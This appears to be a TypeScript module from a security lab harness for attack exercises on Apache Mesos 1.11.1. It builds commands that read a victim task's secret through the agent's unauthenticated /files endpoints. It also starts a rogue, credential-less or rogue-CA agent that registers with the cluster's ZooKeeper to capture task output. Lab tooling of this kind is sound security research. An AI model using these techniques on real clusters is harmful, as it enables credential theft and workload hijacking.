import type { ExerciseInput } from "../../src/model/exercise.js";
import { OBSERVED_111 } from "./expect.js";

/**
 * The pieces the exercises' attacks are made of: a victim task with a secret, the attacker's ways to find and read a
 * task's sandbox over the agent's HTTP endpoints, and a rogue agent started on the attacker's host. Each attack is
 * cited to what real Mesos 1.11.1 printed (docs/facts/observed-1.11.md, "Observed 2026-12-06, attack NN").
 */

type Action = NonNullable<ExerciseInput["steps"][number]["actions"]>[number];

/** Where an exercise's attack was observed. */
export const observedAttack = (exercise: string) => `${OBSERVED_111} Observed 2026-12-06, attack ${exercise}`;

/** The secret the victims carry in their environment (the task prints it): what the attacks steal. */
export const SECRET = "payroll-db-4f8a2c19";

/**
 * A victim: a framework's task with `DB_PASSWORD` in its environment. It prints the secret, then (`detach`) keeps
 * running, so that the attack can do something to it.
 */
export function victim(o: { name?: string; detach?: boolean; extra?: string[]; timeoutMs?: number } = {}): Action {
  const name = o.name ?? "payroll";
  return {
    do: "execute",
    id: name,
    args: [
      `--name=${name}`,
      `--env={"DB_PASSWORD":"${SECRET}"}`,
      `--command=echo DB_PASSWORD=$DB_PASSWORD${o.detach ? "; sleep 600" : ""}`,
      ...(o.extra ?? []),
    ],
    ...(o.detach ? { detach: true } : {}),
    ...(o.timeoutMs ? { timeoutMs: o.timeoutMs } : {}),
  };
}

/**
 * Sets `$s` to a task's sandbox as the agent's `/files` endpoints name it (`/frameworks/<id>/executors/<task>/runs/latest`):
 * `/files/debug` lists every sandbox the agent serves. The framework's ID is its third part. A sandbox stays listed after
 * its framework ended, so the newest is taken: a master numbers its frameworks `<master id>-0000`, `-0001`, … (and a run
 * by hand, or `mesos-lab attack`, after the step's own then finds its own task).
 */
export const sandboxOf = (task: string) =>
  `s=$(curl -s http://\${target.agent}/files/debug | grep -o '/frameworks/[^"]*/executors/${task}/runs/latest' | sort | tail -n 1)`;

/**
 * The attacker reads a file of a task that runs on (a detached execute): the agent says TASK_RUNNING before the task's
 * shell has written a line, and lists the sandbox in /files/debug only once the executor's run exists. A read that
 * comes too soon is tried again (a 200 with no data, or a 404 for a sandbox not listed yet) for up to 5 s; any other
 * answer, a 401 included, ends it at once. Seen once in a CI run of `verify --all --jobs 4` on real 1.11.1: 06's read
 * came before the task's echo.
 */
export const readWhenWritten = (task: string, file = "stdout"): string =>
  [
    "for i in $(seq 1 20); do",
    `  ${sandboxOf(task)}`,
    `  r=$(curl -si "http://\${target.agent}/files/read?path=$s/${file}&offset=0")`,
    `  case "$r" in *'"data":""'*|'HTTP/1.1 404'*) sleep 0.25 ;; *) break ;; esac`,
    "done",
    `printf '%s\\n' "$r"`,
  ].join("\n");

/** The attacker reads a task's stdout through the agent's sandbox browser. */
export const readSandbox = (id: string, task: string): Action => ({
  do: "attack",
  id,
  http: true,
  run: `${sandboxOf(task)}; curl -si "http://\${target.agent}/files/read?path=$s/stdout&offset=0"`,
});

/** Rogue agents listen here on the attacker's host (not 5051: in host network mode the lab's agent has it). */
export const ROGUE_PORT = 5151;

/**
 * A rogue agent on the attacker's host: Mesos' own agent binary, pointed at the lab's ZooKeeper, without any
 * credential (`tls`: with TLS and the attacker's own certificate, from the rogue CA). It waits until the agent
 * registered, or its link to the master failed, or `waitS` seconds passed, then shows what the agent said. A rogue
 * from an earlier run is replaced. The wait ends at the first of those lines because how soon a refused TLS link
 * shows varies: on rootless Podman it came after the 3 s a fixed wait allowed, once in a run of four exercises.
 */
export function rogueAgent(o: { tls?: boolean; waitS?: number } = {}): string {
  const env = [
    "MESOS_MASTER=zk://${host.zk}:2181/mesos",
    "MESOS_WORK_DIR=/var/tmp/rogue",
    "MESOS_LAUNCHER=posix",
    "MESOS_SWITCH_USER=false",
    "MESOS_SYSTEMD_ENABLE_SUPPORT=false",
    "MESOS_HOSTNAME=rogue",
    `MESOS_PORT=${ROGUE_PORT}`,
    "LIBPROCESS_IP=${ip.attacker}",
    ...(o.tls
      ? ["LIBPROCESS_SSL_ENABLED=true", "LIBPROCESS_SSL_CERT_FILE=/etc/attacker/rogue-agent.pem", "LIBPROCESS_SSL_KEY_FILE=/etc/attacker/rogue-agent-key.pem"]
      : []),
  ];
  const ticks = (o.waitS ?? 4) * 4;
  return [
    "pkill -x mesos-agent; sleep 0.2; rm -rf /var/tmp/rogue /tmp/rogue.log",
    `env ${env.join(" ")} nohup mesos-agent >/tmp/rogue.log 2>&1 &`,
    `i=0; while [ $i -lt ${ticks} ] && ! grep -qE 'Registered with master|Failed to link|Master disconnected' /tmp/rogue.log; do sleep 0.25; i=$((i+1)); done`,
    "grep -E 'Registered with master|No credentials provided|Failed to link|Master disconnected|EXIT' /tmp/rogue.log | cut -c1-400",
  ].join("\n");
}

/** What landed in the rogue agent's sandboxes: the victims' stdout. */
export const roguesLoot = (id: string, task: string): Action => ({
  do: "attack",
  id,
  run: `cat /var/tmp/rogue/slaves/*/frameworks/*/executors/${task}/runs/latest/stdout 2>/dev/null; echo "(end of the rogue's sandboxes)"`,
});
